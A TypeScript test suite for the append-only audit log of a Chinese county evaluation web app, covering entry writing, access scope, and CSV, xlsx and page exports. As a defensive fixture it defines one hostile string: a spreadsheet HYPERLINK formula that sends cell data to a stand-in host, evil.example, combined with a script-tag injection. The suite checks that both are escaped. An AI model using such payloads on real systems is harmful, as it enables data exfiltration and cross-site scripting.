// The 操作日志 inside workerd: every audited change writes exactly one entry (right actor, object, county) in
// the same batch, a refused or failed change writes none; the log is append-only; county admins read their
// own county (province: any county of its province), everyone else is refused; the CSV and .xlsx exports
// and the /audit page carry hostile names and notes as inert, escaped text.
import { env } from 'cloudflare:workers';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import example from '../../shared/rulebook/county-example.json' with { type: 'json' };
import { hashPassword } from '../../worker/auth/crypto.ts';
import type { AuditView } from '../../worker/audit/read.ts';
import type { LedgerItem } from '../../worker/ledger/items.ts';
import { call, COUNTY, OTHER_COUNTY, seed, T1, T2, T_OTHER, PASSWORD, tokenFor } from './helpers.ts';
import { callWith, submission, V, villages, type Answer } from './submission-helpers.ts';
import { parseCsv as readCsv } from '../../shared/sheet/csv.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")<script>alert(1)</script>';

interface Row {
  id: number;
  at: string;
  account_id: string;
  actor_name: string | null;
  actor_role: string | null;
  county_code: string | null;
  action: string;
  target: string | null;
  summary: string;
  detail_json: string;
}

async function lastId(): Promise<number> {
  return (await env.DB.prepare('SELECT COALESCE(MAX(id), 0) AS n FROM audit_log').first<{ n: number }>())!.n;
}

/** The audit rows written while `fn` ran. */
async function written<T>(fn: () => Promise<T>): Promise<{ result: T; rows: Row[] }> {
  const before = await lastId();
  const result = await fn();
  const rows = await env.DB.prepare('SELECT * FROM audit_log WHERE id > ? ORDER BY id').bind(before).all<Row>();
  return { result, rows: rows.results };
}

async function one<T>(fn: () => Promise<T>): Promise<{ result: T; row: Row; detail: any }> {
  const { result, rows } = await written(fn);
  expect(rows, JSON.stringify(rows)).toHaveLength(1);
  return { result, row: rows[0]!, detail: JSON.parse(rows[0]!.detail_json) };
}

async function none(fn: () => Promise<Response>, status: number): Promise<void> {
  const { result, rows } = await written(fn);
  if (result.status !== status) expect(result.status, await result.text()).toBe(status);
  expect(rows).toEqual([]);
}

const expectStatus = async (res: Response, status: number): Promise<Response> => {
  if (res.status !== status) expect(res.status, await res.text()).toBe(status);
  return res;
};

const postSub = (login: string, json: unknown) => call(login, '/api/submissions', { method: 'POST', json });

/** The export read back with kaoping's own CSV reader (shared/sheet/csv.ts: RFC 4180, written independently of
 * the writer in shared/output/csv.ts). */
function parseCsv(text: string): string[][] {
  return readCsv(text, { delimiter: ',' }).rows;
}

async function list(login: string, query = ''): Promise<{ county: string; entries: AuditView[]; nextCursor: string | null }> {
  const res = await expectStatus(await call(login, `/api/audit${query}`), 200);
  return res.json();
}

let first: Answer;
let second: Answer;
let item: LedgerItem;
let roundId: string;
let allocationId: string;

beforeAll(async () => {
  await seed();
  const hash = await hashPassword(PASSWORD);
  const now = new Date().toISOString();
  await env.DB.batch([
    env.DB.prepare("INSERT OR IGNORE INTO accounts (id, login, name, role, province_code, county_code, township_code, password_hash, created_at) VALUES ('acc-hostile', 'hostile', ?, 'county', '41', ?, NULL, ?, ?)").bind(HOSTILE, COUNTY, hash, now),
    env.DB.prepare("INSERT OR IGNORE INTO accounts (id, login, name, role, province_code, county_code, township_code, password_hash, created_at) VALUES ('acc-other-admin', 'other-admin', '邻县管理员', 'admin', '41', ?, NULL, ?, ?)").bind(OTHER_COUNTY, hash, now),
    env.DB.prepare("INSERT OR IGNORE INTO accounts (id, login, name, role, province_code, county_code, township_code, password_hash, created_at) VALUES ('acc-far-province', 'far-province', '外省', 'province', '42', NULL, NULL, ?, ?)").bind(hash, now),
  ]);
  // Sign everyone in first: each sign-in is an audit entry of its own (auth.login, tested in
  // accounts.test.ts), written here before the changes whose entries this file counts.
  for (const login of ['admin', 'county', 'finance', 'province', 'town1', 'town2', 'other-town', 'other-admin', 'far-province', 'hostile']) await tokenFor(login);
});

/** Entries other than sign-ins. */
const changes = (entries: AuditView[]) => entries.filter((e) => !e.action.startsWith('auth.'));

describe('each audited change writes exactly one entry, in the same batch', () => {
  it('an accepted submission: who, when, what, the county; a resubmission records what it superseded', async () => {
    const a = await one(async () => (await expectStatus(await postSub('town1', villages('2026Q3', [60, 100, 100, 100, 100])), 201)).json<Answer>());
    first = a.result;
    expect(a.row).toMatchObject({
      account_id: 'acc-town1',
      actor_name: 'town1',
      actor_role: 'township',
      county_code: COUNTY,
      action: 'submission.accept',
      target: first.submission.id,
      at: first.submission.createdAt,
    });
    const opened = await env.DB.prepare("SELECT count(*) AS n FROM ledger_items WHERE found_submission = ? AND status = 'open'").bind(first.submission.id).first<{ n: number }>();
    expect(opened!.n).toBeGreaterThan(0);
    expect(a.row.summary).toBe(`东风镇 2026Q3 上报：接收 5 行，退回 0 行；整改台账新增 ${opened!.n} 项、销号 0 项`);
    expect(a.detail).toMatchObject({ township: T1, period: '2026Q3', accepted: 5, rejected: 0, sha256: first.submission.sha256, superseded: [] });

    // The same villages again with other values: the earlier results give way, and the entry says so.
    const b = await one(async () => (await expectStatus(await postSub('town1', villages('2026Q3', [60, 100, 100, 100, 120])), 201)).json<Answer>());
    second = b.result;
    expect(b.row).toMatchObject({ target: second.submission.id, action: 'submission.accept', account_id: 'acc-town1' });
    expect(b.detail.superseded).toEqual([{ submission: first.submission.id, villages: 5 }]);
    expect(b.row.summary).toContain('；替换此前上报的 5 个村的结果');

    // T2 (for the allocation below), by an admin for a township of the county.
    const c = await one(async () => (await expectStatus(await postSub('admin', submission('2026Q3', [{ row: 5, code: V(0, T2), name: '黄店村', area: 100, income: 3 }], T2)), 201)).json<Answer>());
    expect(c.row).toMatchObject({ account_id: 'acc-admin', actor_role: 'admin', county_code: COUNTY });
    expect(c.row.summary.startsWith('红旗镇 2026Q3 上报')).toBe(true);

    // The other county's activity is recorded under its county.
    const d = await one(async () => expectStatus(await postSub('other-town', submission('2026Q3', [{ row: 5, code: `${T_OTHER}200`, name: '邻村', area: 100, income: 3 }], T_OTHER)), 201));
    expect(d.row).toMatchObject({ account_id: 'acc-other-town', county_code: OTHER_COUNTY });
  });

  it('a refused, duplicate or failed submission writes no entry', async () => {
    // Not their township; not valid; the same bytes again (idempotent, nothing new).
    await none(() => postSub('town1', submission('2026Q4', [{ row: 5, code: V(0, T2), name: '黄店村', area: 100 }], T2)), 403);
    await none(() => postSub('town1', { period: '2026Q4' }), 400);
    await none(() => postSub('finance', villages('2026Q4', [100, 100, 100, 100, 100])), 403);
    await none(() => postSub('town1', villages('2026Q3', [60, 100, 100, 100, 120])), 200);
    // The database write fails: nothing is stored, no entry either.
    const db = new Proxy(env.DB, {
      get(target, prop) {
        if (prop === 'batch') return () => Promise.reject(new Error('D1_ERROR: simulated failure'));
        const x = Reflect.get(target, prop, target) as unknown;
        return typeof x === 'function' ? x.bind(target) : x;
      },
    });
    await none(() => callWith({ ...env, DB: db } as Cloudflare.Env, 'town1', '/api/submissions', { method: 'POST', json: villages('2026Q1', [1, 2, 3, 4, 5]) }), 500);
  });

  it('ledger notes and manual closures (销号): one entry each; a refused or repeated closure none', async () => {
    const res = await expectStatus(await call('county', `/api/ledger?village=${V(0)}&status=open`), 200);
    item = (await res.json<{ items: LedgerItem[] }>()).items.find((i) => i.requirementId === 'basic-24')!;
    expect(item).toBeDefined();
    const note = await one(() => call('town1', `/api/ledger/${item.id}/notes`, { method: 'POST', json: { text: '已联系村支书，计划下月扩建' } }));
    expect(note.result.status).toBe(200);
    expect(note.row).toMatchObject({ action: 'ledger.note', target: item.id, account_id: 'acc-town1', actor_role: 'township', county_code: COUNTY });
    expect(note.row.summary).toBe(`张庄村（${V(0)}）基本标准第24条整改事项添加备注：已联系村支书，计划下月扩建`);
    expect(note.detail).toMatchObject({ text: '已联系村支书，计划下月扩建', village: V(0), requirement: 'basic-24' });
    await none(() => call('town2', `/api/ledger/${item.id}/notes`, { method: 'POST', json: { text: 'x' } }), 403);
    await none(() => call('county', `/api/ledger/${item.id}/notes`, { method: 'POST', json: { text: '  ' } }), 400);
    // A hostile name and note (exports and the page below).
    const hostile = await one(() => call('hostile', `/api/ledger/${item.id}/notes`, { method: 'POST', json: { text: HOSTILE } }));
    expect(hostile.row).toMatchObject({ actor_name: HOSTILE, actor_role: 'county', account_id: 'acc-hostile' });

    await none(() => call('town1', `/api/ledger/${item.id}/close`, { method: 'POST', json: { reason: '已整改' } }), 403);
    const close = await one(() => call('county', `/api/ledger/${item.id}/close`, { method: 'POST', json: { reason: '经实地核查，已扩建至120平方米' } }));
    expect(close.result.status).toBe(200);
    expect(close.row).toMatchObject({ action: 'ledger.close', target: item.id, account_id: 'acc-county', actor_name: 'county', actor_role: 'county' });
    expect(close.row.summary).toContain('人工销号，理由：经实地核查，已扩建至120平方米');
    expect(close.detail).toMatchObject({ reason: '经实地核查，已扩建至120平方米', foundPeriod: '2026Q3' });
    await none(() => call('admin', `/api/ledger/${item.id}/close`, { method: 'POST', json: { reason: '再次销号' } }), 409);
  });

  it('observation rounds and scores: one entry per round and per recording; a clash writes none', async () => {
    const round = await one(() => call('county', '/api/observations/rounds', { method: 'POST', json: { period: '2026H1', level: 'township', title: '上半年乡镇观摩' } }));
    expect(round.result.status).toBe(201);
    roundId = (await round.result.json<{ round: { id: string } }>()).round.id;
    expect(round.row).toMatchObject({ action: 'observation.round', target: roundId, account_id: 'acc-county', actor_role: 'county', summary: '新建乡镇观摩评议“上半年乡镇观摩”（2026H1）' });
    await none(() => call('finance', '/api/observations/rounds', { method: 'POST', json: { period: '2026H1', level: 'township', title: 'x' } }), 403);

    const scores = [
      { unit: T1, observer: '评委甲', score: 90 },
      { unit: T2, observer: '评委甲', score: 85 },
    ];
    const rec = await one(() => call('admin', `/api/observations/rounds/${roundId}/scores`, { method: 'POST', json: { scores } }));
    expect(rec.result.status).toBe(201);
    expect(rec.row).toMatchObject({ action: 'observation.scores', target: roundId, account_id: 'acc-admin', actor_role: 'admin', county_code: COUNTY });
    expect(rec.row.summary).toBe('“上半年乡镇观摩”（2026H1）录入评分 2 条');
    expect(rec.detail).toMatchObject({ added: 2, replaced: [] });
    await none(() => call('county', `/api/observations/rounds/${roundId}/scores`, { method: 'POST', json: { scores: [{ unit: T1, observer: '评委甲', score: 91 }] } }), 409);
    const fix = await one(() => call('county', `/api/observations/rounds/${roundId}/scores`, { method: 'POST', json: { scores: [{ unit: T1, observer: '评委甲', score: 91 }], replace: true } }));
    expect(fix.row.summary).toBe('“上半年乡镇观摩”（2026H1）录入评分 0 条，更正 1 条（原分数见详情）');
    expect(fix.detail.replaced).toEqual([{ unit: T1, observer: '评委甲', old: 90, new: 91 }]);
  });

  it('saved allocations: one entry per version, with the version the INSERT took', async () => {
    const body = { period: '2026Q3', level: 'village', budget: 100000, method: { kind: 'proportional' }, title: '三季度以奖代补' };
    const a = await one(() => call('finance', '/api/allocations', { method: 'POST', json: body }));
    await expectStatus(a.result, 201);
    const rec = (await a.result.json<{ allocation: { id: string; version: number; result: { allocated: number; balance: number } } }>()).allocation;
    allocationId = rec.id;
    expect(a.row).toMatchObject({ action: 'allocation.save', target: rec.id, account_id: 'acc-finance', actor_role: 'finance', county_code: COUNTY });
    expect(a.detail).toMatchObject({ version: 1, budget: 100000, allocated: rec.result.allocated, balance: rec.result.balance, period: '2026Q3', level: 'village' });
    expect(a.row.summary).toBe(`保存以奖代补分配“三季度以奖代补”第 1 版（2026Q3，村级，6 个单位）：预算 100000 元，分配 ${rec.result.allocated} 元，结余 ${rec.result.balance} 元`);
    const b = await one(() => call('admin', '/api/allocations', { method: 'POST', json: { ...body, title: '第二稿' } }));
    expect(b.detail.version).toBe(2);
    await none(() => call('finance', '/api/allocations', { method: 'POST', json: { ...body, title: '' } }), 400);
    await none(() => call('county', '/api/allocations', { method: 'POST', json: body }), 403);
    // Previews change nothing and are not logged.
    await none(() => call('finance', '/api/allocations/preview', { method: 'POST', json: { ...body, title: undefined } }), 200);
  });

  it('a published county rulebook: one entry naming the version; a refused one none', async () => {
    const put = (login: string, json: unknown) => call(login, '/api/county/rulebook', { method: 'PUT', body: JSON.stringify(json), headers: { 'content-type': 'application/json' } });
    await none(() => put('county', example), 403);
    await none(() => put('admin', { ...example, countyCode: OTHER_COUNTY }), 400);
    const v1 = await one(() => put('admin', { ...example, effectiveFrom: '2030' }));
    expect(v1.result.status).toBe(201);
    expect(v1.row).toMatchObject({ action: 'rulebook.publish', target: `${COUNTY}/v1`, account_id: 'acc-admin', actor_role: 'admin', county_code: COUNTY });
    expect(v1.row.summary).toBe(`发布县级考评细则第 1 版《${example.name}》，自 2030 起施行`);
    expect(v1.detail).toMatchObject({ version: 1, rulebookId: example.id, effectiveFrom: '2030' });
    const v2 = await one(() => put('admin', { ...example, id: 'v2', effectiveFrom: '2031' }));
    expect(v2.row.target).toBe(`${COUNTY}/v2`);
  });
});

describe('the log is append-only', () => {
  it('UPDATE and DELETE are refused by the database itself', async () => {
    const id = await lastId();
    expect(id).toBeGreaterThan(0);
    await expect(env.DB.prepare("UPDATE audit_log SET summary = 'x' WHERE id = ?").bind(id).run()).rejects.toThrow(/append-only/);
    await expect(env.DB.prepare("UPDATE audit_log SET account_id = 'someone-else'").run()).rejects.toThrow(/append-only/);
    await expect(env.DB.prepare('DELETE FROM audit_log WHERE id = ?').bind(id).run()).rejects.toThrow(/append-only/);
    await expect(env.DB.prepare('DELETE FROM audit_log').run()).rejects.toThrow(/append-only/);
    expect(await lastId()).toBe(id);
  });
});

describe('GET /api/audit', () => {
  it('a county admin sees the county entries, newest first, with who, what and the object', async () => {
    const all = await list('admin', '?limit=500');
    expect(all.county).toBe(COUNTY);
    expect(all.nextCursor).toBeNull();
    const ids = all.entries.map((e) => e.id);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    expect(all.entries.every((e) => e.county === COUNTY)).toBe(true);
    const expected = (await env.DB.prepare('SELECT count(*) AS n FROM audit_log WHERE county_code = ?').bind(COUNTY).first<{ n: number }>())!.n;
    expect(all.entries).toHaveLength(expected);
    const close = all.entries.find((e) => e.action === 'ledger.close')!;
    expect(close).toMatchObject({ actor: { id: 'acc-county', login: 'county', name: 'county', role: 'county' }, actionLabel: '整改台账人工销号', object: item.id });
    expect(all.entries.find((e) => e.object === first.submission.id)).toMatchObject({ action: 'submission.accept', actionLabel: '接收上报', actor: { login: 'town1', role: 'township' } });
    // The other county's submission is not here.
    expect(all.entries.some((e) => e.actor.id === 'acc-other-town')).toBe(false);
  });

  it('filters: action or area, person, object, Beijing dates', async () => {
    expect((await list('admin', '?action=ledger')).entries.map((e) => e.action).sort()).toEqual(['ledger.close', 'ledger.note', 'ledger.note']);
    expect((await list('admin', '?action=ledger.close')).entries.map((e) => e.object)).toEqual([item.id]);
    expect((await list('admin', '?action=allocation.save')).entries.map((e) => e.object)).toContain(allocationId);
    const byTown1 = (await list('admin', '?actor=town1')).entries;
    expect(changes(byTown1).length).toBe(3); // two submissions, one note
    expect(byTown1.filter((e) => e.action === 'auth.login')).toHaveLength(1); // and the sign-in
    expect(byTown1.every((e) => e.actor.id === 'acc-town1')).toBe(true);
    expect((await list('admin', '?actor=acc-town1')).entries).toEqual(byTown1);
    expect(changes((await list('admin', `?actor=${encodeURIComponent(HOSTILE)}`)).entries).map((e) => e.action)).toEqual(['ledger.note']);
    expect((await list('admin', `?object=${roundId}`)).entries.map((e) => e.action)).toEqual(['observation.scores', 'observation.scores', 'observation.round']);
    const today = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
    expect((await list('admin', `?from=${today}&to=${today}&limit=500`)).entries.length).toBe((await list('admin', '?limit=500')).entries.length);
    expect((await list('admin', '?from=2020-01-01&to=2020-12-31')).entries).toEqual([]);
    // Blank fields (a form sent as is) count as absent.
    expect((await list('admin', '?from=&to=&action=&actor=&object=&limit=3')).entries).toHaveLength(3);
    for (const bad of ['?from=2026-02-30', '?action=drop', '?limit=0', '?limit=501', '?cursor=abc', '?from=2026-05-01&to=2026-04-01', '?sort=id']) {
      const res = await call('admin', `/api/audit${bad}`);
      expect(res.status, bad).toBe(400);
      expect((await res.json<{ error: { code: string } }>()).error.code, bad).toBe('invalid_query');
    }
  });

  it('pages with a cursor: newest first, no entry twice, none missed', async () => {
    const all = (await list('admin', '?limit=500')).entries.map((e) => e.id);
    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page = await list('admin', `?limit=4${cursor ? `&cursor=${cursor}` : ''}`);
      expect(page.entries.length).toBeLessThanOrEqual(4);
      seen.push(...page.entries.map((e) => e.id));
      cursor = page.nextCursor;
      pages++;
    } while (cursor && pages < 100);
    expect(seen).toEqual(all);
    expect(pages).toBe(Math.ceil(all.length / 4));
  });

  it('scope: other county admin sees nothing of ours; province reads a county of its province; others are refused', async () => {
    const other = await list('other-admin');
    expect(other.county).toBe(OTHER_COUNTY);
    expect(changes(other.entries).map((e) => e.actor.id)).toEqual(['acc-other-town']);
    expect((await call('other-admin', `/api/audit?county=${COUNTY}`)).status).toBe(403);
    expect((await call('other-admin', `/api/audit.csv?county=${COUNTY}`)).status).toBe(403);
    expect((await call('admin', `/api/audit?county=${OTHER_COUNTY}`)).status).toBe(403);
    // Province: read-only, one county of its province at a time.
    expect((await call('province', '/api/audit')).status).toBe(403);
    const prov = await list('province', `?county=${COUNTY}&limit=500`);
    expect(prov.entries).toEqual((await list('admin', '?limit=500')).entries);
    expect((await call('far-province', `/api/audit?county=${COUNTY}`)).status).toBe(403);
    for (const login of ['county', 'finance', 'town1', 'other-town', 'hostile']) {
      for (const path of ['/api/audit', '/api/audit.csv', '/api/audit.xlsx']) expect((await call(login, path)).status, `${login} ${path}`).toBe(403);
    }
    for (const path of ['/api/audit', '/api/audit.csv', '/api/audit.xlsx']) expect((await call(null, path)).status, path).toBe(401);
  });
});

describe('exports', () => {
  it('CSV: UTF-8 BOM, the filtered entries, hostile text neutralised', async () => {
    const res = await expectStatus(await call('admin', '/api/audit.csv?action=ledger'), 200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-410999-\d{8}\.csv"; filename\*=UTF-8''/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(new TextDecoder().decode(bytes.slice(3)));
    expect(rows[0]).toEqual(['编号', '时间（北京时间）', '操作人', '账号', '身份', '操作', '操作代码', '对象', '摘要', '详情']);
    expect(rows.slice(1).map((r) => r[6])).toEqual(['ledger.close', 'ledger.note', 'ledger.note']);
    const hostile = rows.find((r) => r[3] === 'hostile')!;
    expect(hostile[2]).toBe(`'${HOSTILE}`); // the name starts with "=": a leading apostrophe keeps it text
    expect(hostile[4]).toBe('县委组织部');
    expect(hostile[5]).toBe('整改台账备注');
    expect(hostile[7]).toBe(item.id);
    expect(hostile[8]).toContain(`整改事项添加备注：${HOSTILE}`);
    expect(JSON.parse(hostile[9]!)).toMatchObject({ text: HOSTILE });
    expect(hostile[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    // No field that a spreadsheet would run.
    for (const r of rows) for (const f of r) expect(f, f).not.toMatch(/^[=+\-@\t\r]/);
    // Scoped and filtered like the list: nothing of the other county.
    const mine = parseCsv(new TextDecoder().decode(new Uint8Array(await (await call('admin', '/api/audit.csv')).arrayBuffer()).slice(3)));
    expect(mine.length - 1).toBe((await list('admin', '?limit=500')).entries.length);
    expect(mine.some((r) => r[3] === 'other-town')).toBe(false);
  });

  it('xlsx: title, filter, header, the entries as text cells; no formula anywhere', async () => {
    const res = await expectStatus(await call('province', `/api/audit.xlsx?county=${COUNTY}&action=ledger.note`), 200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.getWorksheet('操作日志')!;
    expect(ws.getCell(1, 1).value).toBe('操作日志 — 示例县（410999）');
    expect(String(ws.getCell(2, 1).value)).toMatch(/^操作：整改台账备注　共 2 条　导出时间：/);
    expect(ws.getRow(3).values).toEqual([undefined, '编号', '时间（北京时间）', '操作人', '账号', '身份', '操作', '操作代码', '对象', '摘要', '详情']);
    const rows = [4, 5].map((r) => ws.getRow(r));
    const hostile = rows.find((r) => r.getCell(4).value === 'hostile')!;
    expect(hostile.getCell(3).value).toBe(`'${HOSTILE}`);
    expect(hostile.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(hostile.getCell(3).numFmt).toBe('@');
    expect(hostile.getCell(9).value).toContain(HOSTILE);
    expect(typeof hostile.getCell(1).value).toBe('number');
    ws.eachRow((row) =>
      row.eachCell((c) => {
        expect(c.type, String(c.value)).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(c.value, c.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
    expect(ws.rowCount).toBe(5);
  });
});

describe('the /audit page', () => {
  it('admins see the log with filters and export links; strings are escaped; strict CSP, no inline script', async () => {
    const res = await expectStatus(await call('admin', '/audit?action=ledger'), 200);
    expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(res.headers.get('cache-control')).toBe('no-store');
    const html = await res.text();
    expect(html).toContain('<title>操作日志 — ');
    expect(html).toContain('href="/audit" aria-current="page"');
    expect(html).toContain('href="/api/audit.csv?action=ledger"');
    expect(html).toContain('href="/api/audit.xlsx?action=ledger"');
    expect(html).toContain('整改台账人工销号');
    expect(html).toContain('经实地核查，已扩建至120平方米');
    // The hostile name and note: shown, escaped, never markup.
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html.match(/<script\b[^>]*>/g)).toEqual(['<script type="module" src="/assets/common.js">']);
    expect(html).not.toMatch(/\sstyle=|<style|\son[a-z]+=/i);
    expect((html.match(/<tr>/g) ?? []).length).toBe(1 + 3); // header + three ledger entries
  });

  it('pages by cursor; blank filters are ignored; a wrong filter is explained on the page', async () => {
    const firstPage = await (await call('admin', '/audit?from=&to=&action=&actor=&object=&limit=3')).text();
    expect((firstPage.match(/<tr>/g) ?? []).length).toBe(1 + 3);
    const next = /href="\/audit\?limit=3&cursor=(\d+)" id="older"/.exec(firstPage.replace(/&amp;/g, '&'));
    expect(next).not.toBeNull();
    const older = await (await call('admin', `/audit?limit=3&cursor=${next![1]}`)).text();
    expect(older).toContain('href="/audit?limit=3" id="newest"');
    const ids = (await list('admin', '?limit=6')).entries.map((e) => e.id);
    expect(older).toContain(`<td class="nw">`);
    expect(Number(next![1])).toBe(ids[2]);
    const bad = await call('admin', '/audit?from=2026-13-01');
    expect(bad.status).toBe(200);
    expect(await bad.text()).toContain('起始日期应为日期，如 2026-07-01');
  });

  it('the menu links it for admins and province only; other roles are refused the page', async () => {
    expect(await (await call('admin', '/villages')).text()).toContain('href="/audit"');
    for (const login of ['county', 'finance']) expect(await (await call(login, '/villages')).text(), login).not.toContain('href="/audit"');
    for (const login of ['county', 'finance', 'town1']) expect((await call(login, '/audit')).status, login).toBe(403);
    const prov = await (await call('province', '/audit')).text();
    expect(prov).toContain('省级账号请先指定要查看的县');
    expect(prov).not.toContain('id="audit-table"');
    const provCounty = await (await call('province', `/audit?county=${COUNTY}`)).text();
    expect(provCounty).toContain('id="audit-table"');
    expect(provCounty).toContain(`href="/api/audit.csv?county=${COUNTY}"`);
    expect(await (await call('province', `/audit?county=${OTHER_COUNTY}`)).text()).toContain('id="audit-table"');
    expect(await (await call('far-province', `/audit?county=${COUNTY}`)).text()).toContain('无权查看该县的数据');
    const anon = await call(null, '/audit');
    expect(anon.status).toBe(302);
    expect(anon.headers.get('location')).toBe('/login?next=%2Faudit');
  });
});
